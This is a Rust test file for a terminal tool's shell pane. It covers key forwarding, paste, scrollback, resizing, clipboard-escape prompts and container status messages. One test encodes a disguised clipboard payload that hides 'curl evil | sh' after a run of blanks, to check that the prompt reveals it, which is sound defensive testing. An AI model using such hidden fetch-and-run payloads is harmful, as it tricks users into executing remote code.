//! The shell pane: keys, mouse, paste, size, scrollback; the program's end and the target's.

use std::time::Duration;

use crate::support::{Driver, attach_task, event, id, settings, state, target, written};
use crossterm::event::MouseEventKind;
use devtwin::app::keymap::Focus;
use devtwin::app::{ClipboardPolicy, Effect, Hit, Msg, Settings, ShellId, TaskId, Timer};
use devtwin::domain::Size;
use devtwin::domain::error::{Error, ErrorKind};
use devtwin::domain::target::Status;

const SHELL: ShellId = ShellId(1);

fn print(driver: &mut Driver, text: &str) -> Vec<Effect> {
    driver.send(Msg::Output(SHELL, text.as_bytes().to_vec(), Duration::ZERO))
}

fn scrolled(driver: &Driver) -> usize {
    driver
        .model
        .joined
        .as_ref()
        .map_or(0, |j| j.shells.focused().terminal().scrolled().0)
}

#[test]
fn every_key_goes_to_the_program_and_draws_nothing() {
    let mut driver = Driver::shell();
    driver.dirty();
    for (key, bytes) in [
        ("l", "l"),
        ("?", "?"),
        ("/", "/"),
        ("q", "q"),
        ("esc", "\x1b"),
        ("enter", "\r"),
        ("ctrl-c", "\x03"),
        ("ctrl-y", "\x19"),
        ("ctrl-r", "\x12"),
        ("up", "\x1b[A"),
        ("pageup", "\x1b[5~"),
        ("alt-x", "\x1bx"),
        ("alt-0", "\x1b0"),
        ("f1", "\x1bOP"),
        ("tab", "\t"),
    ] {
        assert_eq!(written(&driver.press(key)), bytes.as_bytes(), "{key}");
    }
    assert!(!driver.dirty(), "the program's echo is drawn, not the key");
    assert_eq!(driver.release("l"), []);
}

#[test]
fn alt_digits_are_kept_for_panes() {
    let mut driver = Driver::shell();
    for digit in 1..=9 {
        let effects = driver.press(&format!("alt-{digit}"));
        assert_eq!(written(&effects), b"", "alt-{digit}");
        driver.press("alt-1");
        assert_eq!(driver.model.focus(), Focus::Shell, "alt-{digit}");
    }
}

#[test]
fn output_is_drawn_and_questions_are_answered() {
    let mut driver = Driver::shell();
    driver.dirty();
    let effects = print(&mut driver, "hello\x1b[6n");
    assert_eq!(effects, [Effect::ShellWrite(SHELL, b"\x1b[1;6R".to_vec())]);
    assert!(driver.dirty());
    assert!(driver.text().contains("hello"));
    driver.dirty();
    assert_eq!(
        driver.send(Msg::Output(ShellId(99), b"stray".to_vec(), Duration::ZERO)),
        []
    );
    assert!(!driver.dirty());
}

#[test]
fn a_synchronised_update_is_held_back_and_ended() {
    let mut driver = Driver::shell();
    driver.dirty();
    let effects = print(&mut driver, "\x1b[?2026hhalf");
    let [Effect::After(timer, limit)] = &effects[..] else {
        panic!("{effects:?}");
    };
    assert_eq!((timer, limit.as_millis()), (&Timer::Sync(SHELL), 150));
    assert!(!driver.dirty());
    assert_eq!(print(&mut driver, " more"), [], "one timer is enough");
    driver.send(Msg::Elapsed(Timer::Sync(SHELL)));
    assert!(driver.dirty() && driver.text().contains("half more"));
    driver.send(Msg::Elapsed(Timer::Sync(SHELL)));
    assert!(!driver.dirty());
}

#[test]
fn paste_is_bracketed_when_asked_for() {
    let mut driver = Driver::shell();
    assert_eq!(written(&driver.send(Msg::Paste("a\nb".into()))), b"a\rb");
    print(&mut driver, "\x1b[?2004h");
    let pasted = written(&driver.send(Msg::Paste("a\x1b[201~b".into())));
    assert_eq!(pasted, b"\x1b[200~ab\x1b[201~");
}

#[test]
fn the_wheel_scrolls_back_and_typing_returns() {
    let mut driver = Driver::shell();
    print(&mut driver, &"line\r\n".repeat(100));
    driver.mouse(MouseEventKind::ScrollUp, 5, 5);
    assert_eq!(scrolled(&driver), 3);
    assert!(driver.text().contains("▲ 3 of "));
    driver.press("shift-pageup");
    assert_eq!(scrolled(&driver), 3 + 20);
    driver.press("shift-pagedown");
    assert_eq!(scrolled(&driver), 3);
    driver.dirty();
    assert_eq!(written(&driver.press("x")), b"x");
    assert_eq!(scrolled(&driver), 0);
    assert!(driver.dirty());
}

#[test]
fn the_mouse_is_the_programs_when_it_asks() {
    let mut driver = Driver::shell();
    print(&mut driver, "\x1b[?1000h\x1b[?1006h");
    let up = driver.mouse(MouseEventKind::ScrollUp, 5, 4);
    assert_eq!(
        written(&up),
        b"\x1b[<64;6;3M",
        "counted from the grid's own corner"
    );
}

#[test]
fn focus_is_told_to_programs_that_ask() {
    let mut driver = Driver::shell();
    assert_eq!(driver.send(Msg::Focus(true)), []);
    print(&mut driver, "\x1b[?1004h");
    assert_eq!(written(&driver.send(Msg::Focus(false))), b"\x1b[O");
}

#[test]
fn a_dragged_window_edge_resizes_once_it_rests() {
    let mut driver = Driver::shell();
    for width in [90, 95, 100] {
        let effects = driver.resize(width, 30);
        assert!(
            matches!(&effects[..], [Effect::After(Timer::Resize(SHELL), _)]),
            "{effects:?}"
        );
    }
    let size = Size::clamped(100, 27);
    let effects = driver.send(Msg::Elapsed(Timer::Resize(SHELL)));
    assert_eq!(effects, [Effect::ShellResize(SHELL, size)]);
    driver.dirty();
    assert_eq!(driver.send(Msg::Elapsed(Timer::Resize(SHELL))), []);
    assert!(!driver.dirty());
}

#[test]
fn a_clipboard_request_waits_for_the_person_and_the_title_stands_in_the_tab() {
    let mut driver = Driver::shell_with(settings(), (120, 40));
    let effects = print(&mut driver, "\x1b]52;c;aGk=\x07\x1b]0;vim\x07");
    assert!(
        matches!(&effects[..], [Effect::After(Timer::Toast(_), _)]),
        "it is asked about: {effects:?}"
    );
    let screen = driver.text();
    assert!(screen.contains("1 Shell · vim "), "{screen}");
    assert!(
        screen.contains("wants to set your clipboard: hi"),
        "{screen}"
    );
    print(&mut driver, "\x1b]52;c;ZXZpbA==\x07");
    assert!(
        !driver.text().contains("evil"),
        "not while the first is read"
    );
    driver.press("ctrl-]");
    let effects = driver.press("ctrl-a");
    assert_eq!(effects.first(), Some(&Effect::Copy("hi".into())));
    driver.press("ctrl-]");
    let effects = driver.press("ctrl-a");
    assert!(!effects.contains(&Effect::Copy("hi".into())), "once");
}

#[test]
fn a_clipboard_request_follows_the_setting() {
    for (clipboard, copied) in [
        (ClipboardPolicy::Allow, true),
        (ClipboardPolicy::Deny, false),
    ] {
        let settings = Settings {
            clipboard,
            ..settings()
        };
        let mut driver = Driver::shell_with(settings, (80, 24));
        let effects = print(&mut driver, "\x1b]52;c;aGk=\x07\x1b]52;c;?\x07");
        let wanted = copied.then(|| Effect::Copy("hi".into()));
        assert_eq!(effects, wanted.into_iter().collect::<Vec<_>>());
    }
}

#[test]
fn an_ended_shell_says_its_status_and_what_is_possible() {
    let mut driver = Driver::shell();
    print(&mut driver, "last words");
    driver.send(Msg::ShellEnded(SHELL, Some(2)));
    let screen = driver.text();
    for words in [
        "last words",
        "the shell ended with status 2",
        "Enter new twin",
        "Esc containers",
    ] {
        assert!(screen.contains(words), "{words}:\n{screen}");
    }
    assert_eq!(driver.press("x"), [], "nobody reads it");
    let effects = driver.press("enter");
    assert_eq!(effects.first(), Some(&Effect::RemoveTwin(id("7"))));
    let (task, shell) = attach_task(&effects);
    assert_eq!((task, shell), (TaskId(3), ShellId(2)));
}

#[test]
fn an_ended_shell_leaves_to_the_containers_or_quits() {
    let mut driver = Driver::shell();
    driver.send(Msg::ShellEnded(SHELL, None));
    assert!(driver.text().contains("the connection to the shell ended"));
    let effects = driver.press("c");
    assert_eq!(effects, [Effect::RemoveTwin(id("7")), Effect::List]);
    assert_eq!(driver.model.focus(), Focus::Picker);
    let mut driver = Driver::shell();
    driver.send(Msg::ShellEnded(SHELL, Some(0)));
    assert_eq!(
        driver.press("q"),
        [Effect::Quit { keep: false }],
        "no question: the twin has ended"
    );
}

#[test]
fn a_target_that_dies_is_said_plainly() {
    let mut driver = Driver::shell();
    let effects = driver.send(event("w", "die", Some(3)));
    assert!(effects.contains(&Effect::Inspect(id("w"))), "{effects:?}");
    let screen = driver.text();
    assert!(
        screen.contains("✗ exited with 3 ──"),
        "the header:\n{screen}"
    );
    assert!(
        screen.contains("target web: exited with 3"),
        "the toast:\n{screen}"
    );
    driver.send(Msg::ShellEnded(SHELL, Some(137)));
    assert!(
        driver
            .text()
            .contains("comes back when it starts again (docker start web)")
    );
    driver.send(event("w", "destroy", None));
    driver.press("n");
    assert!(driver.text().contains("web can have no new twin: removed"));
    driver.send(event("w", "start", None));
    let mut running = target();
    running.state = state(Status::Running);
    driver.send(Msg::Inspected(id("w"), Ok(Box::new(running))));
    attach_task(&driver.press("n"));
}

#[test]
fn pauses_starts_and_removals_change_the_header() {
    let mut driver = Driver::shell();
    for (action, header, toast) in [
        ("pause", "◌ paused ──", "target web was paused"),
        ("unpause", "● running ──", "target web goes on"),
        ("destroy", "✗ removed ──", "target web was removed"),
        ("start", "● running ──", "target web was started"),
    ] {
        driver.send(event("w", action, None));
        let screen = driver.text();
        assert!(
            screen.contains(header) && screen.contains(toast),
            "{action}:\n{screen}"
        );
    }
    driver.send(Msg::Inspected(
        id("w"),
        Err(Error::new(ErrorKind::NoTarget, "no such container")),
    ));
    assert!(driver.text().contains("✗ removed ──"));
}

#[test]
fn events_of_other_containers_draw_nothing_here() {
    let mut driver = Driver::shell();
    driver.dirty();
    driver.send(event("b", "die", Some(1)));
    assert!(!driver.dirty());
}

#[test]
fn a_twin_that_cannot_be_removed_is_said_with_a_way_out() {
    let mut driver = Driver::shell();
    let error = Error::new(ErrorKind::Engine, "cannot remove twin 7");
    driver.send(Msg::TwinRemoved(id("7"), Err(error)));
    assert!(driver.text().contains("devtwin clean"));
    assert_eq!(driver.click(&Hit::Tab(0)), []);
}

#[test]
fn the_wheel_is_ours_again_when_the_program_has_ended() {
    let mut driver = Driver::shell();
    print(&mut driver, &"line\r\n".repeat(100));
    print(&mut driver, "\x1b[?1000h\x1b[?1006h");
    driver.send(Msg::ShellEnded(SHELL, Some(0)));
    assert_eq!(driver.mouse(MouseEventKind::ScrollUp, 5, 5), []);
    assert_eq!(scrolled(&driver), 3);
}

#[test]
fn a_question_about_the_clipboard_hides_no_further_line() {
    let mut driver = Driver::shell();
    // "ls -l", 46 blanks, and "curl evil | sh" on a second line.
    let text = "bHMgLWwgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgICAgCmN1cmwgZXZpbCB8IHNoCg==";
    print(&mut driver, &format!("\x1b]52;c;{text}\x07"));
    let screen = driver.text();
    assert!(screen.contains("(2 lines): ls -l ⏎"), "{screen}");
    assert!(screen.contains("curl evil | sh"), "{screen}");
}
